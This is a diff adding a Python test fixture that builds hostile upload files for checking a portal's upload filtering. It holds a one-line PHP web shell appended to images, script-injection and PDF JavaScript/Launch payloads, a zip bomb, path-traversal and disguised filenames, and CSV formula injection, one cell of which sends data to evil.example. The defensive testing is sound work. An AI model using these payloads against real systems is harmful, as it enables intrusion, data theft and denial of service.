@@ -1,0 +1,188 @@
+"""A corpus of hostile uploads, built in code so every byte is visible in review.
+
+Each file says what it attacks. The upload tests send every file to every upload field of
+the portal and require each to be refused, or stored in a way that takes its sting out
+(a generated name, re-encoded bytes, served as an attachment with nosniff).
+"""
+
+import functools
+import io
+import zipfile
+from dataclasses import dataclass
+
+from PIL import Image
+
+MINIMAL_PDF = (
+    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
+    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
+)
+
+
+@dataclass(frozen=True)
+class Hostile:
+    label: str
+    name: str
+    content: bytes
+    attack: str
+
+
+def _pdf(catalog_extra=b"", objects=b""):
+    return (
+        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
+        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + objects + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
+    )
+
+
+def _image(kind):
+    buffer = io.BytesIO()
+    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, kind)
+    return buffer.getvalue()
+
+
+def _zip(members, compression=zipfile.ZIP_DEFLATED):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+CONTENT_TYPES_DOCX = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" '
+    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
+    b"</Types>"
+)
+CONTENT_TYPES_XLSX = CONTENT_TYPES_DOCX.replace(b"/word/document.xml", b"/xl/workbook.xml").replace(
+    b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"
+)
+CONTENT_TYPES_DOCM = CONTENT_TYPES_DOCX.replace(
+    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+    b"application/vnd.ms-word.document.macroEnabled.main+xml",
+)
+BOMB = b"\0" * (200 * 1024 * 1024)  # 200 MB of zeros deflates to about 200 KB
+
+
+@functools.cache
+def hostile_files():
+    png, jpeg = _image("PNG"), _image("JPEG")
+    payload = b"PK\x03\x04<?php system($_GET['c']); ?><script>alert(1)</script>"
+    return [
+        Hostile(
+            "exe-as-pdf", "report.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "Windows executable renamed"
+        ),
+        Hostile("elf-as-pdf", "report.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "Linux executable renamed"),
+        Hostile("exe-named-exe", "setup.exe", b"MZ\x90\x00" + b"\x00" * 120, "executable under its own name"),
+        Hostile("html-as-pdf", "letter.pdf", b"<!doctype html><script>alert(document.cookie)</script>", "HTML renamed"),
+        Hostile("html-named-html", "page.html", b"<html><script>alert(1)</script></html>", "HTML under its own name"),
+        Hostile(
+            "svg-script",
+            "logo.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            "SVG with script",
+        ),
+        Hostile(
+            "svg-as-png",
+            "photo.png",
+            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+            "SVG renamed as an image",
+        ),
+        Hostile(
+            "html-then-pdf-polyglot",
+            "form.pdf",
+            b"<html><body><script>alert(1)</script></body></html>\n" + MINIMAL_PDF,
+            "HTML first, a PDF after it",
+        ),
+        Hostile(
+            "pdf-then-html-polyglot",
+            "form.pdf",
+            MINIMAL_PDF.replace(b"%%EOF", b"<html><script>alert(1)</script></html>\n%%EOF"),
+            "a PDF carrying an HTML page for a browser that sniffs",
+        ),
+        Hostile(
+            "pdf-javascript",
+            "cv.pdf",
+            _pdf(b"/OpenAction 3 0 R", b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
+            "PDF running JavaScript when opened",
+        ),
+        Hostile(
+            "pdf-javascript-hex-name",
+            "cv.pdf",
+            _pdf(b"/OpenAction 3 0 R", b"3 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj\n"),
+            "PDF JavaScript with its name hex-escaped to dodge a byte search",
+        ),
+        Hostile(
+            "pdf-launch",
+            "cv.pdf",
+            _pdf(b"/OpenAction 3 0 R", b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
+            "PDF launching a program",
+        ),
+        Hostile(
+            "pdf-embedded-file",
+            "cv.pdf",
+            _pdf(
+                b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>",
+                b"3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>\nendobj\n"
+                b"4 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream\nendobj\n",
+            ),
+            "PDF carrying an executable",
+        ),
+        Hostile("png-appended-payload", "photo.png", png + payload, "image with a payload after its end"),
+        Hostile("jpeg-appended-payload", "photo.jpg", jpeg + payload, "JPEG with a payload after its end"),
+        Hostile("oversized-pdf", "huge.pdf", MINIMAL_PDF + b"%" + b"0" * (11 * 1024 * 1024), "over the size limit"),
+        Hostile("empty", "nothing.pdf", b"", "empty file"),
+        Hostile(
+            "docx-zip-bomb",
+            "thesis.docx",
+            _zip({"[Content_Types].xml": CONTENT_TYPES_DOCX, "word/document.xml": BOMB}),
+            "Word document that inflates to 200 MB",
+        ),
+        Hostile(
+            "xlsx-zip-bomb",
+            "completers.xlsx",
+            _zip({"[Content_Types].xml": CONTENT_TYPES_XLSX, "xl/workbook.xml": BOMB}),
+            "workbook that inflates to 200 MB",
+        ),
+        Hostile("plain-zip-as-docx", "thesis.docx", _zip({"readme.txt": b"hello"}), "a plain zip renamed .docx"),
+        Hostile("plain-zip-as-xlsx", "list.xlsx", _zip({"readme.txt": b"hello"}), "a plain zip renamed .xlsx"),
+        Hostile(
+            "docm-as-docx",
+            "thesis.docx",
+            _zip(
+                {
+                    "[Content_Types].xml": CONTENT_TYPES_DOCM,
+                    "word/document.xml": b"<w:document/>",
+                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
+                }
+            ),
+            "macro-enabled Word document renamed .docx",
+        ),
+        Hostile("dot-dot-name", "../../../etc/cron.d/evil.pdf", MINIMAL_PDF, "a name climbing out of the folder"),
+        Hostile("rtl-override-name", "report\u202efdp.exe", b"MZ\x90\x00" + b"\x00" * 60, "right-to-left override"),
+        Hostile("rtl-override-pdf", "invoice\u202egpj.pdf", MINIMAL_PDF, "a PDF whose shown name reads .jpg"),
+        Hostile("null-byte-name", "report.pdf\x00.exe", MINIMAL_PDF, "a NUL byte in the name"),
+        Hostile("long-name", "a" * 300 + ".pdf", MINIMAL_PDF, "a 300-character name"),
+        Hostile(
+            "csv-formula-equals",
+            "completers.csv",
+            b"name,email,profession,registration,result\n"
+            b'=HYPERLINK("http://evil.example/?"&A1),a@example.org,Nurse,NMC 1,completed\n',
+            "CSV cell that runs as a formula in a spreadsheet",
+        ),
+        Hostile(
+            "csv-formula-dde",
+            "completers.csv",
+            b"name,email,profession,registration,result\n"
+            b"Ann,b@example.org,\"+cmd|' /C calc'!A0\",HCPC 2,completed\n"
+            b"Bob,c@example.org,-2+3,BACP 3,completed\n"
+            b"Cat,d@example.org,@SUM(1+1),UKCP 4,completed\n",
+            "CSV cells starting with + - @ (DDE)",
+        ),
+        Hostile(
+            "gif-zip-polyglot", "scan.png", b"GIF89a" + _zip({"evil.class": b"\xca\xfe\xba\xbe"}), "GIF/ZIP polyglot"
+        ),
+    ]
